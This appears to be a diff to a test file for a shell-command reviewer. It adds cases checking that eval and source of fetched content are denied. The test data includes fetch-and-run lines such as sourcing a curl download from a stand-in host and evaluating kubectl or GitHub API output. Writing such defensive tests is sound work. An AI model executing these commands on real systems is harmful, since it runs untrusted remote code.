@@ -133,7 +133,9 @@ def test_everyday_look_alike_is_allowed(script: str) -> None:
 def test_eval_of_anything_else_is_still_unanalysable() -> None:
     for script in ("eval \"$(cat cmds.txt)\"", "eval \"$(ssh-agent -s; curl x.example)\"",
                    "eval \"$(kubectl get cm x -o jsonpath='{.data.s}')\"",
-                   "source <(curl -s https://x.example/env)"):
+                   "source <(curl -s https://x.example/env)",
+                   "eval \"$(kubectl bash get cm evil -o=jsonpath=x)\"",
+                   "eval \"$(gh api repos/o/r/contents/x --jq .content)\""):
         outcome, _r, rationale, _c = review(script)
         assert outcome == "deny", (script, rationale)
 
